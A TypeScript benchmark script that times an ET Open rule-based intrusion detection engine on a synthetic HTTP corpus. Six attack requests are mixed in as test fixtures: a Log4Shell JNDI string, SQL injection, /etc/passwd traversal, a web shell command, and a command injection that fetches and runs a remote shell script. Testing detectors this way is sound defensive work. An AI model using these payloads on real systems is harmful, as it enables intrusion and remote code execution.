// ET engine throughput: all enabled ET Open HTTP/TCP rules against a benign HTTP corpus (real
// files from this machine served as responses to browser-like requests, plus JSON API calls) with a
// few attacks mixed in. Per transaction it runs what `replay` runs: request and response rules and
// the raw-stream rules over both directions' bytes. One thread = one core.
// Run: node --expose-gc --import tsx bench/et-throughput.ts [--mb 40] [--prefilter hyperscan|aho-corasick] [--async]
// (PROCTAP_HS_CACHE= for a cold load without the Hyperscan database cache). CPU time is printed
// beside wall time because other processes share the cores.
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { execFileSync } from 'child_process';
import { loadRules, loadRulesAsync } from '../src/detect/suricata';
import type { FlowInfo, StreamChunk } from '../src/flow/types';
import type { HttpHeader, HttpTransaction } from '../src/protocols/http/types';

const args = process.argv.slice(2);
const opt = (name: string, def: string): string => {
  const i = args.indexOf(name);
  return i >= 0 && args[i + 1] ? args[i + 1] : def;
};
const TARGET_MB = Number(opt('--mb', '40'));
const PREFILTER = opt('--prefilter', 'auto') as 'auto' | 'hyperscan' | 'aho-corasick';
const ASYNC = args.includes('--async');
const TARBALL = path.resolve(__dirname, '../../shared/data/et-open/emerging-all.rules.tar.gz');

function listFiles(): string[] {
  const roots = ['/usr/share/doc', '/usr/share/nodejs', '/usr/share/javascript', '/usr/share/icons', '/usr/lib/python3'];
  const want = /\.(html|js|css|png|json|svg|txt)$/;
  const out: string[] = [];
  const walk = (d: string, depth: number): void => {
    if (depth > 8 || out.length > 20000) return;
    let ents: fs.Dirent[];
    try {
      ents = fs.readdirSync(d, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of ents.sort((a, b) => a.name.localeCompare(b.name))) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p, depth + 1);
      else if (e.isFile() && want.test(e.name)) out.push(p);
    }
  };
  for (const r of roots) walk(r, 0);
  return out;
}

const TYPES: Record<string, string> = { html: 'text/html; charset=utf-8', js: 'application/javascript', css: 'text/css', png: 'image/png', json: 'application/json', svg: 'image/svg+xml', txt: 'text/plain' };
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15',
  'okhttp/4.12.0',
  'python-requests/2.31.0',
];

function mkFlow(i: number, inbound: boolean): FlowInfo {
  const client = inbound ? { addr: `198.51.100.${(i % 250) + 1}`, port: 40000 + (i % 20000) } : { addr: `192.168.1.${(i % 250) + 1}`, port: 40000 + (i % 20000) };
  const server = inbound ? { addr: '192.168.1.10', port: 80 } : { addr: `203.0.113.${(i % 200) + 1}`, port: 80 };
  return { id: `bench-${i}`, source: 'pcap', family: 4, client, server, localRole: 'unknown', tls: false, startMs: i, lastMs: i };
}

function raw(h: HttpHeader[]): Buffer {
  return Buffer.from(h.map((x) => `${x.name}: ${x.value}\r\n`).join('') + '\r\n', 'latin1');
}

function mkTx(i: number, method: string, uri: string, reqH: Array<[string, string]>, reqBody: Buffer, status: number, respH: Array<[string, string]>, respBody: Buffer, inbound: boolean): HttpTransaction {
  const rq = reqH.map(([name, value]) => ({ name, value }));
  const rs = respH.map(([name, value]) => ({ name, value }));
  return {
    flow: mkFlow(i, inbound),
    index: 0,
    anomalies: [],
    request: { method, uri, version: 'HTTP/1.1', line: Buffer.from(`${method} ${uri} HTTP/1.1`, 'latin1'), headers: rq, rawHeaders: raw(rq), body: reqBody, bodyLength: reqBody.length, bodyTruncated: false, trailers: [], startMs: i, endMs: i },
    response: { version: 'HTTP/1.1', status, reason: status === 200 ? 'OK' : 'Not Found', line: Buffer.from(`HTTP/1.1 ${status} ${status === 200 ? 'OK' : 'Not Found'}`), headers: rs, rawHeaders: raw(rs), body: respBody, decodedBody: respBody, bodyLength: respBody.length, bodyTruncated: false, trailers: [], startMs: i, endMs: i },
  };
}

function corpus(targetBytes: number): { txs: HttpTransaction[]; bytes: number; attacks: number } {
  const files = listFiles();
  const txs: HttpTransaction[] = [];
  let bytes = 0;
  let i = 0;
  const step = Math.max(1, Math.floor(files.length / 4000));
  for (let k = 0; k < files.length && bytes < targetBytes; k += step) {
    const f = files[k];
    let body: Buffer;
    try {
      body = fs.readFileSync(f);
    } catch {
      continue;
    }
    if (body.length > 512 * 1024) body = body.subarray(0, 512 * 1024);
    const ext = path.extname(f).slice(1);
    const host = ['www.example.com', 'cdn.example.net', 'api.example.org', 'static.example.com'][i % 4];
    const uri = '/' + f.split('/').slice(-3).join('/') + (i % 3 === 0 ? `?v=${i}&lang=en` : '');
    const reqH: Array<[string, string]> = [
      ['Host', host],
      ['User-Agent', UAS[i % UAS.length]],
      ['Accept', ext === 'html' ? 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' : '*/*'],
      ['Accept-Language', 'en-US,en;q=0.5'],
      ['Accept-Encoding', 'gzip, deflate, br'],
      ['Connection', 'keep-alive'],
      ['Referer', `https://${host}/index.html`],
      ['Cookie', `session=${(i * 2654435761 >>> 0).toString(16)}; theme=dark`],
    ];
    const respH: Array<[string, string]> = [
      ['Date', 'Mon, 27 Nov 2023 10:00:00 GMT'],
      ['Server', i % 2 ? 'nginx/1.24.0' : 'Apache/2.4.57 (Debian)'],
      ['Content-Type', TYPES[ext] ?? 'application/octet-stream'],
      ['Content-Length', String(body.length)],
      ['Cache-Control', 'max-age=3600'],
      ['ETag', `"${i.toString(16)}"`],
    ];
    let method = 'GET';
    let reqBody = Buffer.alloc(0);
    if (i % 10 === 7) {
      method = 'POST';
      reqBody = Buffer.from(JSON.stringify({ user: `u${i}`, items: [1, 2, 3], query: 'shoes size 42', ts: 1700000000 + i }));
      reqH.push(['Content-Type', 'application/json'], ['Content-Length', String(reqBody.length)]);
    }
    txs.push(mkTx(i, method, uri, reqH, reqBody, 200, respH, body, i % 2 === 0));
    bytes += body.length + reqBody.length + 600;
    i++;
  }
  // A few attacks, so verification paths run too.
  const attacks: Array<[string, string, Array<[string, string]>, string]> = [
    ['GET', '/?x=${jndi:ldap://198.51.100.1:1389/a}', [['User-Agent', '${jndi:ldap://198.51.100.1/a}']], ''],
    ['GET', "/index.php?id=1' UNION SELECT username,password FROM users--", [['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']], ''],
    ['GET', '/cgi-bin/../../../../etc/passwd', [['User-Agent', 'curl/8.0']], ''],
    ['POST', '/wp-login.php', [['User-Agent', 'Mozilla/5.0'], ['Content-Type', 'application/x-www-form-urlencoded']], 'log=admin&pwd=admin&wp-submit=Log+In'],
    ['GET', '/shell.php?cmd=cat%20/etc/passwd', [['User-Agent', 'Mozilla/5.0']], ''],
    ['POST', '/api/ping', [['Content-Type', 'application/x-www-form-urlencoded']], 'ip=127.0.0.1;wget http://198.51.100.2/x.sh|sh'],
  ];
  for (const [m, u, h, b] of attacks) {
    const reqBody = Buffer.from(b);
    txs.push(mkTx(i++, m, u, [['Host', 'victim.example'], ...h], reqBody, 404, [['Server', 'nginx'], ['Content-Type', 'text/html']], Buffer.from('<html>Not found</html>'), true));
    bytes += 700;
  }
  return { txs, bytes, attacks: attacks.length };
}

function streamChunks(tx: HttpTransaction): StreamChunk[] {
  const out: StreamChunk[] = [];
  const push = (dir: 'to_server' | 'to_client', data: Buffer): void => {
    for (let off = 0; off < data.length; off += 16384) out.push({ flow: tx.flow, dir, offset: off, data: data.subarray(off, off + 16384), gapBefore: false, timeMs: 1 });
  };
  const q = tx.request!;
  const r = tx.response!;
  push('to_server', Buffer.concat([q.line, Buffer.from('\r\n'), q.rawHeaders, q.body]));
  push('to_client', Buffer.concat([r.line, Buffer.from('\r\n'), r.rawHeaders, r.body]));
  return out;
}

async function main(): Promise<void> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'et-bench-'));
  try {
    execFileSync('tar', ['xzf', TARBALL, '-C', dir]);
    const rss0 = process.memoryUsage().rss;
    const t0 = process.hrtime.bigint();
    const c0 = process.cpuUsage();
    const file = path.join(dir, 'emerging-all.rules');
    const { engine, report } = ASYNC ? await loadRulesAsync([file], { prefilter: PREFILTER }) : loadRules([file], { prefilter: PREFILTER });
    const loadMs = Number(process.hrtime.bigint() - t0) / 1e6;
    const lc = process.cpuUsage(c0);
    const loadCpuMs = (lc.user + lc.system) / 1000;
    (globalThis as { gc?: () => void }).gc?.();
    const rssLoaded = process.memoryUsage().rss;
    const { txs, attacks } = corpus(TARGET_MB * 1024 * 1024);
    const chunks = txs.map(streamChunks);
    let wire = 0;
    for (const cs of chunks) for (const c of cs) wire += c.data.length;
    // Warm-up pass (JIT), then the timed pass; flow state is per flow id, reset between passes.
    const run = (): { alerts: number; bySid: Map<number, number>; ms: number; cpuMs: number } => {
      engine.state.clear();
      const bySid = new Map<number, number>();
      let alerts = 0;
      const t = process.hrtime.bigint();
      const c = process.cpuUsage();
      for (let k = 0; k < txs.length; k++) {
        const tx = txs[k];
        const ms = [...engine.matchRequest(tx, { appProto: 'http' })];
        for (const c of chunks[k]) if (c.dir === 'to_server') ms.push(...engine.matchStream(c, { appProto: 'http' }));
        ms.push(...engine.matchResponse(tx, { appProto: 'http' }));
        for (const c of chunks[k]) if (c.dir === 'to_client') ms.push(...engine.matchStream(c, { appProto: 'http' }));
        engine.endFlow(tx.flow);
        alerts += ms.length;
        for (const m of ms) bySid.set(m.id, (bySid.get(m.id) ?? 0) + 1);
      }
      const cu = process.cpuUsage(c);
      return { alerts, bySid, ms: Number(process.hrtime.bigint() - t) / 1e6, cpuMs: (cu.user + cu.system) / 1000 };
    };
    run();
    const r = run();
    const mbs = wire / 1048576 / (r.ms / 1000);
    const mbsCpu = wire / 1048576 / (r.cpuMs / 1000);
    console.log(`et-throughput: prefilter ${engine.prefilter}, ${report.loaded} rules loaded (${report.httpTcpLoaded}/${report.httpTcpEnabled} enabled HTTP/TCP), ${report.groups} prefilter groups`);
    console.log(`et-throughput: rule load (${ASYNC ? 'loadRulesAsync' : 'loadRules'}) ${loadMs.toFixed(0)} ms wall, ${loadCpuMs.toFixed(0)} ms CPU of all threads (target <= 3000 ms; Hyperscan cache ${process.env.PROCTAP_HS_CACHE === '' ? 'off' : 'on'})`);
    console.log(`et-throughput: RSS after load ${(rssLoaded / 1048576).toFixed(0)} MiB (process before load ${(rss0 / 1048576).toFixed(0)} MiB, rules +${((rssLoaded - rss0) / 1048576).toFixed(0)} MiB)`);
    console.log(`et-throughput: corpus ${txs.length} transactions (${attacks} attacks), ${(wire / 1048576).toFixed(1)} MiB on the wire`);
    console.log(`et-throughput: ${mbsCpu.toFixed(1)} MB per CPU-second (target >= 20 MB/s per core); ${mbs.toFixed(1)} MB/s wall on this shared machine; ${(txs.length / (r.cpuMs / 1000)).toFixed(0)} tx per CPU-second; ${r.alerts} alerts`);
    const top = [...r.bySid.entries()].sort((a, b) => b[1] - a[1]).slice(0, 8);
    for (const [sid, n] of top) console.log(`  ${String(n).padStart(5)}  ${sid} ${engine.rules.find((x) => x.sid === sid)?.msg}`);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

main().catch((e: unknown) => {
  console.error(e);
  process.exit(1);
});
